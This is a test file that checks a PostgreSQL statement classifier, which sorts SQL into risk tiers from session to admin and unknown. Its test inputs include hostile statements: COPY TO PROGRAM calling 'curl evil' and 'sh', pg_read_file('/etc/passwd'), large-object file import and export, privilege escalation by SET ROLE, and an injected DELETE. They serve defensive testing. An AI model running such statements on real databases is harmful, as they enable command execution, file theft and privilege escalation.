import { describe, expect, it } from 'vitest'
import { classify, loadGrammar } from '../../../src/adapters/postgres/classify.ts'

await loadGrammar()

const TYPES = {
  session: `
    BEGIN
    START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE
    COMMIT
    END
    COMMIT AND CHAIN
    ROLLBACK
    ABORT
    SAVEPOINT a
    RELEASE SAVEPOINT a
    ROLLBACK TO SAVEPOINT a
    SHOW ALL
    SHOW search_path
    DEALLOCATE p
    DEALLOCATE ALL
    CLOSE c
    CLOSE ALL
    LISTEN a
    UNLISTEN *
    DISCARD PLANS
    DISCARD SEQUENCES
    SET application_name = 'x'
    SET LOCAL statement_timeout = '5s'
    SET "TimeZone" = 'UTC'
    SET TIME ZONE 'UTC'
    SET TIME ZONE INTERVAL '-08:00' HOUR TO MINUTE
    SET DateStyle TO ISO, DMY
    SET extra_float_digits = 3
    RESET statement_timeout
    SET TRANSACTION READ ONLY
    SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ
    SET default_transaction_read_only = on
    SET client_encoding = 'utf-8'
    SET NAMES 'UTF8'
    SET standard_conforming_strings = on
    SET countersign.reason = 'INC-7'
    SET CONSTRAINTS ALL DEFERRED
    ;;
    -- only a comment
    /* only /* a nested */ comment */ ;`,
  read: `
    SELECT 1
    VALUES (1), (2)
    TABLE orders
    SELECT * FROM orders WHERE id = 7
    SELECT lower(email), count(*) FILTER (WHERE id > 1), rank() OVER (PARTITION BY a ORDER BY b) FROM users GROUP BY 1
    SELECT pg_catalog.lower('A')
    SELECT 1 OPERATOR(pg_catalog.+) 2
    SELECT '{"a":1}'::jsonb -> 'a' ->> 'b'
    SELECT CAST(1 AS numeric(5,2)), '1 day'::interval, 'pg_class'::regclass, '{1,2}'::int[]
    SELECT CURRENT_USER, CURRENT_DATE, LOCALTIMESTAMP(0), CURRENT_SCHEMA
    SELECT EXTRACT(year FROM now()), TRIM(both 'x' from 'xax'), POSITION('a' IN 'ba'), SUBSTRING('abc' FROM 2 FOR 1), 'a' SIMILAR TO 'b', 'a%' LIKE 'a!%' ESCAPE '!', now() AT TIME ZONE 'UTC'
    SELECT CASE WHEN a IS NULL THEN 1 ELSE coalesce(b, 2) END, greatest(1, 2), nullif(a, b), (a, b) = (1, 2), a IS DISTINCT FROM b FROM t
    SELECT * FROM a JOIN b USING (id) LEFT JOIN LATERAL (SELECT * FROM c WHERE c.id = a.id) x ON true
    SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(n, o)
    SELECT * FROM ROWS FROM (unnest(ARRAY[1]), json_to_record('{}') AS (a int)) AS x
    SELECT * FROM t TABLESAMPLE BERNOULLI (1) REPEATABLE (2)
    SELECT * FROM XMLTABLE('/a' PASSING x COLUMNS b int PATH 'c')
    SELECT * FROM JSON_TABLE('{}'::jsonb, '$' COLUMNS (a int PATH '$.a' NULL ON EMPTY, NESTED PATH '$.b[*]' COLUMNS (c text)))
    SELECT JSON_OBJECT('a': 1), JSON_ARRAY(1, 2), JSON_ARRAYAGG(x ORDER BY x), JSON_OBJECTAGG(k: v), JSON_VALUE(j, '$.a' RETURNING int DEFAULT 0 ON ERROR), j IS JSON OBJECT, JSON_SCALAR(1), JSON('{}'), JSON_SERIALIZE(j), JSON_EXISTS(j, '$.x' PASSING 1 AS y), JSON_ARRAY(SELECT 1) FROM t
    SELECT XMLELEMENT(name a, XMLATTRIBUTES(b AS c), d), XMLFOREST(a), XMLPARSE(DOCUMENT '<a/>'), XMLSERIALIZE(CONTENT x AS text) FROM t
    SELECT a, sum(b) FROM t GROUP BY GROUPING SETS ((a), ()) HAVING grouping(a) = 0
    SELECT a FROM t ORDER BY a USING <
    SELECT a COLLATE "C", a[1:2], (SELECT 1), ARRAY(SELECT 1), EXISTS (SELECT 1), a = ANY (SELECT 1), a IN (1, 2) FROM t
    WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SEARCH DEPTH FIRST BY n SET o CYCLE n SET c USING p SELECT * FROM r
    SELECT 1 UNION SELECT 2 EXCEPT ALL SELECT 3 LIMIT 5 OFFSET $1
    SELECT * FROM a ORDER BY b FETCH FIRST 3 ROWS WITH TIES
    SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t
    SELECT public.order_total(1), order_total(1)
    SELECT 'a'::public.mood
    SELECT set_config('bytea_output', 'hex', false)
    SELECT pg_sleep(1)
    SELECT currval('s'), lastval(), has_table_privilege('t', 'select'), pg_get_viewdef('v'), obj_description(1, 'pg_class')
    COPY orders TO STDOUT
    COPY orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER)
    COPY (SELECT 1) TO STDOUT
    EXPLAIN SELECT 1
    EXPLAIN DELETE FROM orders
    EXPLAIN (ANALYZE false) DELETE FROM orders
    EXPLAIN (ANALYZE off, COSTS) DELETE FROM orders
    EXPLAIN ANALYZE SELECT 1
    DECLARE c CURSOR WITH HOLD FOR SELECT 1
    PREPARE p(int) AS SELECT $1
    SELECT U&'d\\0061t', E'\\'; DELETE FROM orders; --', $$; DROP TABLE x$$, 'it''s'
    SELECT "weird;name" FROM "Sch;ema"."ta""ble"`,
  write: `
    INSERT INTO orders VALUES (1)
    INSERT INTO orders DEFAULT VALUES
    INSERT INTO orders (a) SELECT 1 ON CONFLICT (a) DO UPDATE SET a = excluded.a WHERE orders.b RETURNING *
    INSERT INTO orders OVERRIDING SYSTEM VALUE VALUES (1) ON CONFLICT DO NOTHING
    UPDATE orders SET a = 1
    UPDATE orders o SET (a, b) = (SELECT 1, 2), c = DEFAULT FROM x WHERE o.id = x.id RETURNING old.a, new.a
    UPDATE orders SET a[1] = 2, b.c = 3
    UPDATE orders SET a = 1 WHERE CURRENT OF c
    DELETE FROM ONLY orders USING x WHERE orders.id = x.id
    MERGE INTO a USING b ON a.id = b.id WHEN MATCHED AND b.x THEN UPDATE SET y = b.y WHEN NOT MATCHED THEN INSERT (id) VALUES (b.id) WHEN NOT MATCHED BY SOURCE THEN DELETE RETURNING merge_action(), a.*
    COPY orders FROM STDIN
    COPY orders (a) FROM STDIN WITH (FORMAT csv) WHERE a > 1
    COPY (DELETE FROM orders RETURNING *) TO STDOUT
    TRUNCATE orders, items RESTART IDENTITY CASCADE
    LOCK TABLE orders IN SHARE MODE
    NOTIFY a, 'b'
    WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
    WITH a AS (SELECT 1), b AS MATERIALIZED (INSERT INTO x SELECT * FROM a RETURNING *) TABLE b
    SELECT * FROM orders FOR UPDATE
    SELECT * FROM orders FOR NO KEY UPDATE OF orders SKIP LOCKED
    SELECT * FROM orders FOR SHARE NOWAIT
    SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) x
    EXPLAIN ANALYZE DELETE FROM orders
    EXPLAIN (ANALYZE) UPDATE orders SET a = 1
    EXPLAIN (ANALYZE true, FORMAT json) INSERT INTO orders VALUES (1)
    EXPLAIN (ANALYZE on) DELETE FROM orders
    EXPLAIN (ANALYZE 1) DELETE FROM orders
    EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM orders
    EXPLAIN (analyse) DELETE FROM orders
    PREPARE p AS DELETE FROM orders
    SELECT nextval('s')
    SELECT pg_catalog.setval('s', 1)
    SELECT pg_advisory_lock(1)
    SELECT pg_notify('a', 'b')
    SELECT x.nextval FROM (SELECT 's'::regclass) x`,
  ddl: `
    CREATE TABLE a (id int DEFAULT evil())
    CREATE TEMP TABLE a (id int)
    CREATE UNLOGGED TABLE a AS SELECT 1
    SELECT * INTO a FROM b
    SELECT * INTO TEMP a FROM b
    EXPLAIN CREATE TABLE a AS SELECT 1
    EXPLAIN SELECT 1 INTO TEMP a
    EXPLAIN ANALYZE CREATE TABLE a AS SELECT 1
    CREATE TABLE a AS WITH d AS (DELETE FROM b RETURNING *) SELECT * FROM d
    ALTER TABLE a ADD COLUMN b int, DROP COLUMN c
    ALTER TABLE a RENAME TO b
    ALTER TABLE a SET SCHEMA b
    DROP TABLE IF EXISTS a, b CASCADE
    DROP FUNCTION f(int)
    CREATE INDEX CONCURRENTLY ON a (lower(b))
    CREATE VIEW a AS SELECT 1
    CREATE MATERIALIZED VIEW a AS SELECT 1
    REFRESH MATERIALIZED VIEW CONCURRENTLY a
    CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'
    CREATE PROCEDURE f() BEGIN ATOMIC DELETE FROM a; END
    CREATE TRIGGER t AFTER INSERT ON a EXECUTE FUNCTION f()
    CREATE RULE r AS ON DELETE TO a DO INSTEAD DELETE FROM b
    CREATE TYPE t AS ENUM ('a')
    CREATE DOMAIN d AS int CHECK (VALUE > 0)
    CREATE SEQUENCE s
    CREATE SCHEMA s CREATE TABLE a (id int)
    CREATE STATISTICS s ON a, b FROM t
    COMMENT ON TABLE a IS 'b'
    VACUUM FULL a
    ANALYZE
    CLUSTER a USING i
    REINDEX TABLE a
    DISCARD TEMP`,
  admin: `
    GRANT SELECT ON a TO b
    REVOKE ALL ON SCHEMA s FROM PUBLIC
    GRANT a TO b
    ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO a
    CREATE ROLE a LOGIN SUPERUSER
    ALTER ROLE a PASSWORD 'x'
    ALTER ROLE a SET search_path = b
    ALTER USER CURRENT_USER VALID UNTIL 'infinity'
    DROP ROLE a
    DROP OWNED BY a
    REASSIGN OWNED BY a TO b
    CREATE DATABASE a
    ALTER DATABASE a SET work_mem = '1GB'
    DROP DATABASE a WITH (FORCE)
    CREATE TABLESPACE a LOCATION '/x'
    ALTER SYSTEM SET a = 1
    CREATE EXTENSION dblink
    DROP EXTENSION dblink
    ALTER EXTENSION a UPDATE
    CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p
    CREATE PUBLICATION p FOR ALL TABLES
    DROP PUBLICATION p
    CREATE SERVER s FOREIGN DATA WRAPPER f
    CREATE USER MAPPING FOR a SERVER s
    IMPORT FOREIGN SCHEMA a FROM SERVER b INTO c
    CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
    DROP EVENT TRIGGER e
    CREATE POLICY p ON a USING (true)
    DROP POLICY p ON a
    ALTER TABLE a DISABLE ROW LEVEL SECURITY
    ALTER TABLE a ADD COLUMN b int, OWNER TO c
    ALTER TABLE a DISABLE TRIGGER ALL
    ALTER FUNCTION f() OWNER TO a
    ALTER ROLE a RENAME TO b
    CREATE SCHEMA s GRANT SELECT ON a TO b
    SECURITY LABEL ON TABLE a IS 'x'
    CREATE LANGUAGE plperlu
    COPY orders TO '/tmp/x'
    COPY orders FROM '/etc/passwd'
    COPY orders TO PROGRAM 'curl evil'
    COPY orders FROM PROGRAM 'ls'
    COPY (SELECT 1) TO PROGRAM 'sh'
    LOAD 'x'
    CHECKPOINT
    PREPARE TRANSACTION 'x'
    COMMIT PREPARED 'x'
    ROLLBACK PREPARED 'x'
    SET ROLE postgres
    SET LOCAL ROLE postgres
    RESET ROLE
    SET SESSION AUTHORIZATION postgres
    RESET SESSION AUTHORIZATION
    SET search_path = evil, public
    SET "SEARCH_PATH" = evil
    SET SCHEMA 'evil'
    RESET search_path
    SET standard_conforming_strings = off
    SET STANDARD_CONFORMING_STRINGS TO DEFAULT
    RESET standard_conforming_strings
    SET client_encoding = 'SJIS'
    SET NAMES DEFAULT
    SET backslash_quote = on
    SET session_replication_role = replica
    SET row_security = off
    SET countersign.other = 1
    RESET ALL
    DISCARD ALL`,
  unknown: `
    DO $$ BEGIN END $$
    CALL p()
    EXECUTE p(1)
    FETCH ALL FROM c
    MOVE c
    EXPLAIN ANALYZE EXECUTE p
    CREATE TABLE a AS EXECUTE p
    SELECT evil()
    SELECT public.lower('A')
    SELECT "public.order_total"(1)
    SELECT x."public.order_total"(1)
    SELECT "information_schema._pg_expandarray"(1)
    SELECT 'a'::"public.mood"
    SELECT * FROM evil() x
    SELECT sum(evil(a)) OVER (ORDER BY b) FROM t
    SELECT count(*) FILTER (WHERE evil()) FROM t
    SELECT 1 ORDER BY evil()
    SELECT 1 LIMIT evil()
    SELECT 1 WHERE a IN (SELECT evil())
    SELECT a FROM t GROUP BY ROLLUP (evil(a))
    SELECT JSON_VALUE(evil(), '$')
    SELECT * FROM JSON_TABLE(evil(), '$' COLUMNS (a int))
    SELECT * FROM XMLTABLE('/a' PASSING evil() COLUMNS b int)
    SELECT XMLELEMENT(name a, evil())
    SELECT * FROM t TABLESAMPLE evil (1)
    SELECT rank() OVER w FROM t WINDOW w AS (ORDER BY evil())
    SELECT CASE WHEN true THEN evil() END
    SELECT ARRAY[evil()], ROW(evil()), (evil()).x
    WITH a AS (SELECT evil()) SELECT 1
    VALUES (evil())
    SELECT 1 OPERATOR(public.+) 2
    SELECT 1 <<<>>> 2
    SELECT a FROM t ORDER BY a USING OPERATOR(public.<)
    SELECT a OPERATOR(public.=) ANY (SELECT 1) FROM t
    SELECT 'x'::evil
    SELECT 'x'::public.evil
    SELECT CAST('x' AS evil[])
    INSERT INTO t VALUES (evil())
    UPDATE t SET a = evil() WHERE id = 1
    DELETE FROM t WHERE evil()
    MERGE INTO a USING b ON evil() WHEN MATCHED THEN DELETE
    COPY (SELECT evil()) TO STDOUT
    COPY t FROM STDIN WHERE evil()
    EXPLAIN SELECT evil()
    PREPARE p AS SELECT evil()
    DECLARE c CURSOR FOR SELECT evil()
    CREATE TABLE a AS SELECT evil()
    SELECT evil() INTO a
    SELECT pg_read_file('/etc/passwd')
    SELECT pg_catalog.pg_read_binary_file('x')
    SELECT pg_ls_dir('.')
    SELECT lo_import('/x')
    SELECT lo_export(1, '/x')
    SELECT lo_get(1)
    SELECT set_config('role', 'postgres', false)
    SELECT set_config('search_path', '', false)
    SELECT set_config('bytea_output', a, false) FROM t
    SELECT set_config(a, 'b', false) FROM t
    SELECT set_config('bytea_output', 'hex', evil())
    SELECT pg_terminate_backend(1)
    SELECT pg_cancel_backend(1)
    SELECT pg_reload_conf()
    SELECT query_to_xml('delete from a', true, true, '')
    SELECT table_to_xml('a', true, true, '')
    SELECT cursor_to_xml('a', 1, true, true, '')
    SELECT database_to_xml(true, true, '')
    SELECT ts_stat('delete from a')
    SELECT ts_rewrite('a'::tsquery, 'select 1')
    SELECT dblink_exec('x', 'y')
    SELECT pg_logical_emit_message(true, 'a', 'b')
    SELECT pg_export_snapshot()
    SELECT txid_current()
    SELECT pg_switch_wal()
    SELECT pg_stat_reset()
    SELECT x.pg_cancel_backend FROM pg_backend_pid() x
    SELECT ('/etc/passwd'::text).pg_read_file
    SELECT x.pg_cancel_backend.* FROM y x
    SELECT "PG_SLEEP"(1)
    sel 1
    SELECT 'unterminated
    SELECT 1; sel
    (`,
}

describe.each(Object.entries(TYPES))('sql:%s', (type, statements) => {
  it.each(statements.trim().split(/\n\s*/))('%s', (statement) => {
    const { type: actual, statements: judged, error } = classify(statement, { trusted: ['public.order_total', 'public.mood'] })
    expect({ actual, why: judged.map(({ because }) => because), error }).toMatchObject({ actual: `sql:${type}` })
    for (const { type: own, because } of judged) expect(because !== null).toBe(own === 'sql:unknown')
  })
})

describe('a message of several statements', () => {
  it('is the widest of them and judges each', () => {
    const result = classify('BEGIN; SELECT 1; DELETE FROM a; DROP TABLE a; GRANT x TO y; COMMIT', { trusted: [] })
    expect(result.type).toBe('sql:admin')
    expect(result.statements.map(({ type }) => type)).toEqual(['sql:session', 'sql:read', 'sql:write', 'sql:ddl', 'sql:admin', 'sql:session'])
  })

  it('cannot leave a read-only transaction unseen', () => {
    expect(classify('COMMIT; DROP TABLE a', { trusted: [] }).type).toBe('sql:ddl')
  })

  it('cuts statements at bytes, not characters', () => {
    const { statements } = classify("SELECT 'é😀'; DELETE FROM ü WHERE ñ = 1 ; SELECT 2", { trusted: [] })
    expect(statements.map(({ text }) => text.trim())).toEqual(["SELECT 'é😀'", 'DELETE FROM ü WHERE ñ = 1', 'SELECT 2'])
  })

  it('gives each statement the fingerprint that it has alone', () => {
    const alone = classify('DELETE FROM a WHERE id = 9', { trusted: [] }).statements[0]?.fingerprint
    const { statements } = classify("SELECT 'é'; DELETE FROM a WHERE id = 7", { trusted: [] })
    expect(alone).toMatch(/^[0-9a-f]{64} bounded$/)
    expect(statements[1]?.fingerprint).toBe(alone)
  })
})
